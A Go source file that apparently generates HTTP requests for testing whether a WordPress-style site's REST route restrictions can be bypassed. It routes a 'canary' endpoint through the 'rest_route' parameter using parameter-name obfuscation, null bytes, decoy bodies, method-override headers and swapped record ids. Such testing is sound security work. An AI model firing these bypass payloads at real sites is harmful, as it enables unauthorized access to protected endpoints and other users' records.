package grammar

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
)

// Aim is what a request is to make the platform run.
type Aim struct {
	Route  string // "/canary/v1/t17"
	Method string // that the platform is to dispatch
	Base   string // what stands before the site's paths, "/blog"
	Host   string // host and port that the client calls
	Decoy  string // a route that anybody may call
	Object string // where it is set, the id that a parameter names in place of the path's
	// Paths are other paths below Base that the site's rewrite rules lead to Route.
	Paths []string
	// Semicolons tells that the site's PHP splits queries at ";" as well.
	Semicolons bool
	// Chained tells that something on the way rewrites addresses several times.
	Chained bool
}

// namespace is the first word of the route.
func (aim *Aim) namespace() string {
	word, _, _ := strings.Cut(strings.TrimPrefix(aim.Route, "/"), "/")
	return word
}

// between is what stands between two pairs.
func (g *Generator) between(aim *Aim) string {
	if aim.Semicolons && g.oneIn(2) {
		return pick(g, ";", ";", "&amp;", ";;", ";&")
	}
	return pick(g, "&", "&", "&", "&&")
}

// next is what stands before one more pair.
func (g *Generator) next(aim *Aim) string {
	if aim.Semicolons {
		return g.between(aim)
	}
	return "&"
}

// Field is a header field as it stands on the wire.
type Field struct{ Name, Value string }

// Request is a request as it stands on the wire.
type Request struct {
	Method, Target string
	Fields         []Field // with Content-Length or Transfer-Encoding, where it has any
	Body           string
	Short          bool     // it may announce more than it sends
	Notes          []string // what was done to it, for whoever reads a find
}

func (r *Request) note(format string, args ...any) {
	r.Notes = append(r.Notes, fmt.Sprintf(format, args...))
}

func (r *Request) add(name, value string) { r.Fields = append(r.Fields, Field{name, value}) }

// String shows a request, long parts cut.
func (r *Request) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %.300q (%s)", r.Method, r.Target, strings.Join(r.Notes, "; "))
	for _, f := range r.Fields {
		fmt.Fprintf(&b, "\n%.200q: %.300q", f.Name, f.Value)
	}
	fmt.Fprintf(&b, "\n%d bytes: %.600q", len(r.Body), r.Body)
	return b.String()
}

// Request makes a request for aim. A plain one calls the route openly; each of the
// operators takes it a step away from that.
func (g *Generator) Request(aim *Aim) *Request {
	r := &Request{Method: aim.Method}
	switch g.IntN(10) {
	case 0, 1, 2:
		g.inPath(r, aim)
	case 3, 4:
		g.inQuery(r, aim)
	case 5, 6:
		g.inForm(r, aim)
	case 7, 8:
		g.inMultipart(r, aim)
	default:
		g.inQuery(r, aim)
		g.decoyBody(r, aim)
	}
	if aim.Object != "" {
		g.object(r, aim)
	}
	if g.oneIn(6) {
		g.override(r, aim)
	}
	if aim.Chained && g.oneIn(2) {
		g.chained(r, aim)
	} else if g.oneIn(6) {
		g.onTheWay(r, aim)
	}
	if g.oneIn(3) {
		g.targetForm(r, aim)
	}
	for g.oneIn(3) {
		g.header(r, aim)
	}
	g.announce(r)
	return r
}

// pages are where a call may hide that stands in query or body.
var pages = []string{
	"/", "/", "/", "/index.php", "/visitors/", "/x.css", "/robots.txt", "/feed/", "/index.php/", "/wp-login.php", "/wp-admin/admin-ajax.php", "/wp-admin/async-upload.php",
	"/wp-cron.php", "/xmlrpc.php", "/wp-trackback.php", "/wp-comments-post.php", "/wp-signup.php", "/wp-activate.php", "/wp-links-opml.php", "/wp-admin/", "/wp-admin/index.php", "/wp-admin/nope.php",
	"/no/such/page/", "//", "/?", "/index.php?", "/INDEX.PHP", "/index.php/x", "/wp-json", "/wp-json/", "/x/", "/wp-content/", "/wp-includes/js/",
}

func (g *Generator) page(aim *Aim) string {
	page := pick(g, pages...)
	if g.oneIn(8) {
		page = g.twisted(page, aim)
	}
	return aim.Base + page
}

// inQuery names the route in the query.
func (g *Generator) inQuery(r *Request, aim *Aim) {
	r.note("query")
	r.Target = g.page(aim)
	r.Target += pick(g, "?", "?", "?", "?", "?", "?", "??", "?&", "?x?", "&", "%26") + g.around(g.routePair(r, aim), aim)
	if strings.Count(r.Target, "?") > 1 && strings.Contains(r.Target, "??") {
		r.note("two question marks")
	}
	r.Target = strings.ReplaceAll(strings.ReplaceAll(r.Target, " ", "%20"), "\x00", "%00")
}

// inForm names it in an urlencoded body.
func (g *Generator) inForm(r *Request, aim *Aim) {
	r.note("form")
	r.Target, r.Method = g.page(aim), "POST"
	r.Body = g.around(g.routePair(r, aim), aim)
	if aim.Method != http.MethodPost {
		g.override(r, aim)
	}
	r.add("Content-Type", formType)
}

const formType = "application/x-www-form-urlencoded"

// around puts a pair among others, some of which name the decoy.
func (g *Generator) around(pair string, aim *Aim) string {
	var pairs []string
	for range g.IntN(3) {
		pairs = append(pairs, g.noise(aim))
	}
	pairs = append(pairs, pair)
	for g.oneIn(4) {
		pairs = append(pairs, g.noise(aim))
	}
	if g.oneIn(40) {
		many := strings.Repeat("a&", 990+g.IntN(20))
		pairs = append([]string{many[:len(many)-1]}, pairs...)
	}
	return strings.Join(pairs, g.between(aim))
}

func (g *Generator) noise(aim *Aim) string {
	return pick(g, "a=1", "p=7", "s=x", "rest_route=0", "rest_route=", "rest_route="+aim.Decoy, "rest_route[]=1", "x[rest_route]=1", "_method=GET", "a%5Brest_route=1", "rest%00_route=0",
		"lang=de", "REST_ROUTE=0", g.spelled("rest_route")+"="+pick(g, "0", "", aim.Decoy, "%2F"), strings.Repeat(pick(g, "v", "%20", "+", "%", "&", "["), g.length()), "%", "=", "=x", "[", "page_id=2")
}

// routePair is the pair that names the route.
func (g *Generator) routePair(r *Request, aim *Aim) string {
	blanks := ""
	if g.oneIn(6) {
		blanks = strings.Repeat(pick(g, "%20", "+", "%20+"), g.edge())
		r.note("%d bytes of blanks before the name", len(blanks))
	}
	return blanks + g.spelled("rest_route") + "=" + g.value(aim.Route)
}

// spelled writes a name in one of the ways that PHP folds to it, mostly.
func (g *Generator) spelled(name string) string {
	if g.IntN(3) == 0 {
		return name
	}
	var b strings.Builder
	for i := range len(name) {
		switch {
		case name[i] == '_' && g.oneIn(3):
			b.WriteString(pick(g, ".", "%2e", "+", "%20", "[", "%5b", "%5F", "_", "%20"))
		case g.oneIn(12):
			fmt.Fprintf(&b, pick(g, "%%%02x", "%%%02X"), name[i])
		default:
			b.WriteByte(name[i])
		}
	}
	return pick(g, "", "", "", "+", "%20") + b.String() + pick(g, "", "", "", "%00", "%00x", "[]", "%00[]")
}

func (g *Generator) value(route string) string {
	switch g.rare(6) {
	case 0:
		return url.QueryEscape(route)
	case 1:
		return g.encoded(route)
	case 2:
		return route + pick(g, "/", "//", "%2F", "%00", "%0A", "+", "%20", "?x", "#x", ";", "%3F")
	}
	return route
}

// decoyBody gives a request a body that names something else.
func (g *Generator) decoyBody(r *Request, aim *Aim) {
	r.note("a body that names something else")
	r.Method = pick(g, "POST", "POST", "PUT", "GET", "DELETE", "OPTIONS", "HEAD")
	switch g.IntN(3) {
	case 0:
		r.add("Content-Type", formType)
		r.Body = "rest_route=" + aim.Decoy
	case 1:
		r.add("Content-Type", "application/json")
		r.Body = `{"rest_route":"` + aim.Decoy + `","id":7}`
	default:
		r.add("Content-Type", "multipart/form-data; boundary=B")
		r.Body = "--B\r\nContent-Disposition: form-data; name=\"rest_route\"\r\n\r\n" + aim.Decoy + "\r\n--B--\r\n"
	}
}

// object names another record than the path does, in one of the places that beat it.
func (g *Generator) object(r *Request, aim *Aim) {
	r.note("another id")
	pair := g.spelled(pick(g, "id", "id", "id", "order_id")) + "=" + pick(g, aim.Object, aim.Object, "0"+aim.Object, "+"+aim.Object, aim.Object+".0", aim.Object+"x", "%00"+aim.Object)
	number := pick(g, aim.Object, aim.Object, `"`+aim.Object+`"`, aim.Object+".0", aim.Object+"e0", `" `+aim.Object+`"`, "["+aim.Object+"]", "0"+aim.Object)
	switch {
	case r.Body != "" && !strings.HasPrefix(r.Body, "{"):
		r.Body += g.next(aim) + pair
	case r.Body == "" && g.oneIn(2):
		r.add("Content-Type", pick(g, "application/json", "application/json", "application/vnd.x+json; charset=utf-8", "text/plain, application/json", formType, ""))
		r.Body = pick(g, `{"id":7,"id":`+number+`}`, `{"id":`+number+`}`, `{"id":`+number+`}`, `{"\u0069d":`+number+`}`, `{"ID":7,"id":`+number+`,"x":{"id":7}}`, "\ufeff"+`{"id":`+number+`}`, `{"id":`+number+`}`+pick(g, "\x00", " ", "x"), "id="+aim.Object)
	case strings.Contains(r.Target, "?"):
		r.Target += g.next(aim) + pair
	default:
		r.Target += "?" + pair
	}
}

// override says the method in another place than the request line.
func (g *Generator) override(r *Request, aim *Aim) {
	if r.Method == aim.Method && g.oneIn(2) {
		r.Method = pick(g, "POST", "GET", "HEAD", "OPTIONS", "PUT", "TRACE", "PROPFIND", "get", "Post", "M-SEARCH")
	}
	method := pick(g, aim.Method, aim.Method, aim.Method, strings.ToLower(aim.Method), aim.Method+" ", "", "X")
	if g.oneIn(2) {
		r.note("X-HTTP-Method-Override")
		r.add(pick(g, "X-HTTP-Method-Override", "x-http-method-override", "X_HTTP_Method_Override", "X-HTTP_Method-Override"), method)
		return
	}
	r.note("_method")
	pair := g.spelled("_method") + "=" + strings.ReplaceAll(method, " ", "+")
	if strings.Contains(r.Target, "?") {
		r.Target += g.next(aim) + pair
	} else {
		r.Target += "?" + pair
	}
}

// Wire returns the request to host as it stands on the wire in HTTP/1.1.
func (r *Request) Wire(host string) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\n", r.Method, r.Target, host)
	for _, f := range r.Fields {
		fmt.Fprintf(&b, "%s: %s\r\n", f.Name, f.Value)
	}
	b.WriteString("\r\n" + r.Body)
	return []byte(b.String())
}
